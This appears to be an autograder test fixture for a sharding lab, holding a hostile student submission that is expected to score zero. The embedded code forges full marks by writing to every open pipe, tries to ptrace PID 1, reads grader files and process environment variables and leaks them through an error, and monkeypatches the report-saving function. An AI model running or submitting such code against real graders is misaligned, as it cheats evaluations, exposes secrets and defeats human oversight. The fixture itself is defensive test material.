# lab: 03_sharding
# base: student
# expect: 0
# issue 30 (1, 3): no run of its own, a typed-in run whose source, on every
# rank of the grader's rerun, writes full marks to every pipe it can open
# (/proc/1/fd/1 is the rerun's result pipe), tries to ptrace PID 1, reads
# every file it can find that may hold the tests (raising it as an error),
# and replaces the rank's report (labkit.dist.save) with perfect numbers.
SRC = r'''
import ctypes, glob, importlib, json, os
LINE = json.dumps({"questions": {q: {"points": 99, "max": 99, "reasons": []}
                   for q in ("q1_three_phi", "q2_all_gathers",
                             "q3_ddp_bytes", "q4_build_it")},
                   "tampering": []})
for fd in glob.glob("/proc/*/fd/*"):
    try:
        with open(fd, "w") as f:
            f.write(LINE + "\n")
    except OSError:
        pass
ctypes.CDLL(None).ptrace(16, 1, 0, 0)            # PTRACE_ATTACH
leak = []
for pat in ("/grading/work/*", "/proc/1/environ", "/proc/1/cmdline",
            "/tmp/**/*.json", "/grading/course/_build/**/*"):
    for f in glob.glob(pat, recursive=True):
        try:
            leak.append(open(f).read()[:300])
        except OSError:
            pass
d = importlib.import_module("lab" + "kit.dist")
real = d.save
def save(ctx, record):
    fake = {"runs": [{"cap_bytes": c, "grad_diff": 0.0,
                      "all_reduce_bytes": [], "matmuls_at_issue": [],
                      "backward_matmuls": 0, "other_ops": []}
                     for c in (600, 2500) for _ in range(2)]}
    return real(ctx, {"results": {"student": fake}})
d.save = save

class BucketedDDP:
    def __init__(self, model, cap):
        if leak:
            raise RuntimeError(" | ".join(leak))
    def finish(self):
        pass
'''
build_result = {"lab": "sharding", "source": SRC, "error": None,
                "ranks": [{}, {}], "config": {}}
